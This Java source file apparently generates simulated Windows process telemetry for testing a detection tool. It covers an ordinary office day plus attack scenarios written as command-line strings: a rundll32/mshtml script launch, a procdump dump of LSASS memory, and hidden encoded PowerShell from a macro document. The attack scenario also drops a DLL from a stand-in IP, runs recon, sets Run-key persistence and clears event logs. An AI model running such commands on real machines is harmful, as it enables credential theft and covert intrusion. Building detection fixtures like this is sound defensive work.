package pedigree.samples;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

import pedigree.samples.Machine.Program;
import pedigree.samples.Machine.Running;
import pedigree.samples.Machine.User;

/** What happens in the samples. All of it is made up. */
final class Stories {

    private static final String SYSTEM32 = "C:\\Windows\\System32\\";
    private static final User MIRA = new User("LAB\\mira", "S-1-5-21-1004336348-1177238915-682003330-1104", 0x48dd6, 1, "Medium");
    private static final String DUMP = "-accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass_dump.dmp";

    private Stories() {
    }

    private static Program windows(String file) {
        return Program.windows(file.contains("\\") ? file : SYSTEM32 + file);
    }

    /** rundll32 runs script from its command line, which starts calc. */
    static Machine rundll32() {
        Machine machine = new Machine("ALMA-PC", 0x5e1f0a31L, 44, "2026-03-02T09:12:04Z");
        Running userinit = machine.existing(windows("userinit.exe"), SYSTEM32 + "userinit.exe", MIRA, 3980);
        Running explorer = machine.after(2.4).start(userinit, windows("C:\\Windows\\explorer.exe"), "C:\\Windows\\Explorer.EXE", MIRA, 4312);
        Program chrome = new Program("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "Google Chrome", "Google Chrome", "Google LLC");
        Running browser = machine.after(411).start(explorer, chrome, "\"" + chrome.path() + "\"", MIRA, 6120);
        machine.after(0.3).start(browser, chrome, "\"" + chrome.path() + "\" --type=renderer --lang=en", MIRA, 6188);
        machine.after(0.5).connect(browser, "192.0.2.80", 443);
        Running cmd = machine.after(1290).start(explorer, windows("cmd.exe"), "\"C:\\Windows\\system32\\cmd.exe\" ", MIRA, 7812);
        machine.after(0.05).start(cmd, windows("conhost.exe"), "\\??\\C:\\Windows\\system32\\conhost.exe 0x4", MIRA, 7820);
        Running rundll32 = machine.after(85).start(cmd, windows("rundll32.exe"),
                "rundll32  vbscript:\"\\..\\mshtml,RunHTMLApplication \"+String(CreateObject(\"WScript.Shell\").Run(\"calc.exe\"),0)", MIRA, 4064);
        machine.after(0.04).load(rundll32, SYSTEM32 + "mshtml.dll");
        machine.after(0.06).load(rundll32, SYSTEM32 + "vbscript.dll");
        machine.after(0.02).load(rundll32, SYSTEM32 + "wshom.ocx");
        machine.after(0.03).set(rundll32, "HKU\\S-1-5-21-1004336348\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\ZoneMap\\ProxyBypass", "DWORD (0x00000001)");
        Running calc = machine.after(0.07).start(rundll32, windows("calc.exe"), "\"C:\\Windows\\System32\\calc.exe\" ", MIRA, 9120);
        machine.after(1.7).end(rundll32);
        machine.after(4.5).end(calc);
        Running notepad = machine.after(340).start(explorer, windows("notepad.exe"), "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\mira\\notes.txt", MIRA, 8044);
        machine.after(180).end(notepad);
        machine.after(12).end(cmd);
        return machine;
    }

    /** procdump writes the memory of LSASS to a file. */
    static Machine procdump() {
        Machine machine = new Machine("ALMA-PC", 0x5e1f0a31L, 45, "2026-03-03T14:02:11Z");
        User admin = new User("LAB\\admin-mira", "S-1-5-21-1004336348-1177238915-682003330-1110", 0x4d143, 1, "High");
        Running lsass = machine.existing(windows("lsass.exe"), SYSTEM32 + "lsass.exe", User.SYSTEM, 684);
        Running explorer = machine.existing(windows("C:\\Windows\\explorer.exe"), "C:\\Windows\\Explorer.EXE", MIRA, 4380);
        Running shell = machine.after(3).start(explorer, windows(SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"),
                "\"" + SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe\" ", admin, 1984);
        Running whoami = machine.after(40).start(shell, windows("whoami.exe"), "\"C:\\Windows\\system32\\whoami.exe\"", admin, 5508);
        machine.after(0.1).end(whoami);
        Running cmd = machine.after(22).start(shell, windows("cmd.exe"), "\"cmd.exe\" /c \"C:\\Tools\\procdump.exe " + DUMP + "\"", admin, 996);
        Program procdump = new Program("C:\\Tools\\procdump.exe", "procdump", "Sysinternals process dump utility", "ProcDump", "Sysinternals - www.sysinternals.com");
        Program procdump64 = new Program("C:\\Tools\\procdump64.exe", "procdump", procdump.description(), procdump.product(), procdump.company());
        Running outer = machine.after(0.03).start(cmd, procdump, "C:\\Tools\\procdump.exe  " + DUMP, admin, 4936);
        machine.after(0.2).create(outer, "C:\\Tools\\procdump64.exe");
        Running inner = machine.after(0.3).start(outer, procdump64, "C:\\Tools\\procdump.exe  " + DUMP, admin, 436);
        machine.after(0.2).access(inner, lsass, 0x1fffff);
        machine.after(0.4).create(inner, "C:\\Windows\\Temp\\lsass_dump.dmp");
        machine.after(1.6).end(inner);
        machine.after(0.05).end(outer);
        machine.after(0.02).end(cmd);
        return machine;
    }

    /** A day at a desk, from switching on to going home. */
    static final class Day {

        private final Machine machine = new Machine("DESK-07", 0x71c0be55L, 112, "2026-03-04T07:41:02Z");
        private final Random random = new Random(7);
        private final List<Running> services = new ArrayList<>();
        private Running explorer;
        private Running host;
        private long nextPid = 1200;

        private long pid() {
            nextPid += 4 * (1 + random.nextInt(9));
            return nextPid;
        }

        private Running start(Running parent, Program program, String arguments, User user) {
            String command = program.path().startsWith("C:\\Windows\\") && parent.user().session() == 0
                    ? program.path() + arguments : "\"" + program.path() + "\"" + arguments;
            return machine.after(0.02 + random.nextInt(900) / 1000.0).start(parent, program, command, user, pid());
        }

        /** The whole day; with an attack in the afternoon, or without. */
        Machine live(boolean attacked) {
            boot();
            logOn();
            for (int hour = 0; hour < 9; hour++) {
                work(hour);
                if (hour == 6 && attacked) {
                    attack();
                }
            }
            return machine;
        }

        private void boot() {
            Running system = machine.existing(new Program("System", "-", "-", "-", "-"), "", User.SYSTEM, 4);
            machine.start(system, new Program("Registry", "-", "-", "-", "-"), "", User.SYSTEM, 124);
            Running smss = machine.after(0.4).start(system, windows("smss.exe"), "\\SystemRoot\\System32\\smss.exe", User.SYSTEM, 500);
            Running session0 = machine.after(1.1).start(smss, windows("smss.exe"), "\\SystemRoot\\System32\\smss.exe 000000d8 00000084 ", User.SYSTEM, 612);
            machine.after(0.1).start(session0, windows("csrss.exe"), "%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows", User.SYSTEM, 624);
            Running wininit = machine.after(0.1).start(session0, windows("wininit.exe"), "wininit.exe", User.SYSTEM, 700);
            machine.end(session0);
            Running session1 = machine.after(0.1).start(smss, windows("smss.exe"), "\\SystemRoot\\System32\\smss.exe 000000f4 00000084 ", User.SYSTEM, 708);
            machine.after(0.1).start(session1, windows("csrss.exe"), "%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows", User.SYSTEM, 716);
            Running winlogon = machine.after(0.1).start(session1, windows("winlogon.exe"), "winlogon.exe", User.SYSTEM, 792);
            machine.end(session1);
            Running manager = machine.after(0.1).start(wininit, windows("services.exe"), SYSTEM32 + "services.exe", User.SYSTEM, 844);
            machine.after(0.05).start(wininit, windows("lsass.exe"), SYSTEM32 + "lsass.exe", User.SYSTEM, 864);
            machine.after(0.2).start(winlogon, windows("fontdrvhost.exe"), "\"fontdrvhost.exe\"", User.SYSTEM.with("Low"), 980);
            machine.after(0.2).start(winlogon, windows("dwm.exe"), "\"dwm.exe\"", User.SYSTEM, 1068);
            for (String group : List.of("DcomLaunch -p", "RPCSS -p", "LocalServiceNetworkRestricted -p -s EventLog", "netsvcs -p -s Schedule",
                    "netsvcs -p -s ProfSvc", "LocalService -p -s nsi", "NetworkService -p -s Dnscache", "netsvcs -p -s UserManager",
                    "LocalServiceNoNetwork -p", "netsvcs -p -s wuauserv", "netsvcs -p -s BITS", "appmodel -p -s StateRepository")) {
                services.add(start(manager, windows("svchost.exe"), " -k " + group, group.startsWith("Local") ? User.LOCAL_SERVICE : User.SYSTEM));
            }
            host = services.get(0);
            start(manager, windows("spoolsv.exe"), "", User.SYSTEM);
            start(manager, windows("SearchIndexer.exe"), " /Embedding", User.SYSTEM);
            start(manager, new Program("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MsMpEng.exe", "MsMpEng.exe",
                    "Antimalware Service Executable", "Microsoft® Windows® Operating System", "Microsoft Corporation"), "", User.SYSTEM);
            Running userinit = machine.after(38).start(winlogon, windows("userinit.exe"), SYSTEM32 + "userinit.exe", MIRA, pid());
            explorer = start(userinit, windows("C:\\Windows\\explorer.exe"), "", MIRA);
            machine.after(20).end(userinit);
        }

        private void logOn() {
            start(services.get(7), windows("sihost.exe"), "", MIRA);
            start(services.get(3), windows("taskhostw.exe"), " {222A245B-E637-4AE9-A93F-A59CA119A75E}", MIRA);
            start(explorer, windows("ctfmon.exe"), "", MIRA);
            start(host, windows("RuntimeBroker.exe"), " -Embedding", MIRA);
            start(explorer, app("Microsoft OneDrive\\OneDrive.exe", "Microsoft OneDrive", "Microsoft Corporation"), " /background", MIRA);
            Running teams = start(explorer, app("Teams\\ms-teams.exe", "Microsoft Teams", "Microsoft Corporation"), "", MIRA);
            start(teams, app("EdgeWebView\\msedgewebview2.exe", "Microsoft Edge WebView2", "Microsoft Corporation"), " --embedded-browser-webview=1", MIRA);
        }

        private static Program app(String path, String name, String company) {
            return new Program("C:\\Program Files\\" + path, path.substring(path.lastIndexOf('\\') + 1), name, name, company);
        }

        private void work(int hour) {
            machine.after(60 + random.nextInt(400));
            browse(hour);
            office(hour);
            maintain(hour);
            for (int i = 0; i < 6; i++) {
                Running task = start(services.get(3), windows("taskhostw.exe"), i % 2 == 0 ? " SYSTEM" : " -RegisterDevice", User.SYSTEM);
                Running com = machine.after(60 + random.nextInt(120)).start(host, windows("dllhost.exe"),
                        SYSTEM32 + "DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}", MIRA, pid());
                machine.after(5).end(com);
                machine.after(9).end(task);
            }
        }

        private void browse(int hour) {
            Program chrome = app("Google\\Chrome\\Application\\chrome.exe", "Google Chrome", "Google LLC");
            Running browser = start(explorer, chrome, "", MIRA);
            machine.connect(browser, "192.0.2." + (20 + hour), 443);
            List<Running> tabs = new ArrayList<>();
            for (int tab = 0; tab < 8 + random.nextInt(6); tab++) {
                tabs.add(start(browser, chrome, " --type=" + (tab == 0 ? "gpu-process" : "renderer") + " --lang=en --field-trial-handle=" + (1700 + tab), MIRA));
                machine.after(random.nextInt(60));
            }
            tabs.forEach(tab -> machine.after(0.2).end(tab));
            machine.after(1).end(browser);
        }

        private void office(int hour) {
            Running outlook = start(explorer, app("Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "Microsoft Outlook", "Microsoft Corporation"), "", MIRA);
            Running word = machine.after(200).start(outlook, app("Microsoft Office\\root\\Office16\\WINWORD.EXE", "Microsoft Word", "Microsoft Corporation"),
                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\mira\\Documents\\report-" + hour + ".docx\"", MIRA, pid());
            Running print = machine.after(90).start(word, windows("splwow64.exe"), "C:\\Windows\\splwow64.exe 12288", MIRA, pid());
            machine.after(30).end(print);
            machine.after(400).end(word);
            Running notepad = start(explorer, windows("notepad.exe"), " C:\\Users\\mira\\Documents\\todo.txt", MIRA);
            machine.after(60).end(notepad);
        }

        private void maintain(int hour) {
            Running updater = start(services.get(3), app("Google\\GoogleUpdater\\updater.exe", "Google Updater", "Google LLC"), " --wake --system", User.SYSTEM);
            machine.connect(updater, "192.0.2.200", 443);
            machine.after(4).end(updater);
            Running protocol = start(host, windows("SearchProtocolHost.exe"), " Global\\UsGthrFltPipeMssGthrPipe" + hour, User.SYSTEM);
            machine.after(3).end(protocol);
            if (hour == 3) {
                Running shell = start(explorer, windows("cmd.exe"), "", MIRA);
                Running conhost = start(shell, windows("conhost.exe"), " 0x4", MIRA);
                Running ping = start(shell, windows("PING.EXE"), " fileserver.lab.example", MIRA);
                machine.after(4).end(ping);
                machine.after(60).end(shell);
                machine.end(conhost);
            }
        }

        private void attack() {
            Running word = start(explorer, app("Microsoft Office\\root\\Office16\\WINWORD.EXE", "Microsoft Word", "Microsoft Corporation"),
                    " /n \"C:\\Users\\mira\\Downloads\\invoice-4471.docm\"", MIRA);
            Running cmd = machine.after(6).start(word, windows("cmd.exe"), "cmd.exe /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", MIRA, pid());
            Running shell = machine.after(0.1).start(cmd, windows(SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"),
                    "powershell  -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", MIRA, pid());
            machine.after(1.2).connect(shell, "203.0.113.66", 80);
            machine.after(2).create(shell, "C:\\Users\\Public\\update.dll");
            Running rundll32 = machine.after(1).start(shell, windows("rundll32.exe"), "\"C:\\Windows\\system32\\rundll32.exe\" C:\\Users\\Public\\update.dll,Start", MIRA, pid());
            machine.after(0.4).connect(rundll32, "203.0.113.66", 443);
            for (String tool : List.of("whoami.exe /all", "net.exe group \"Domain Admins\" /domain", "ipconfig.exe /all", "tasklist.exe /v")) {
                int blank = tool.indexOf(' ');
                Running found = machine.after(4 + random.nextInt(9)).start(rundll32, windows(tool.substring(0, blank)), tool, MIRA, pid());
                machine.after(0.3).end(found);
            }
            machine.after(30).set(rundll32, "HKU\\S-1-5-21-1004336348\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Update",
                    "rundll32.exe C:\\Users\\Public\\update.dll,Start");
            Running clear = machine.after(60).start(rundll32, windows("wevtutil.exe"), "wevtutil cl \"Windows PowerShell\"", MIRA, pid());
            machine.after(0.2).end(clear);
            machine.after(0.1).end(shell);
            machine.end(cmd);
        }
    }
}
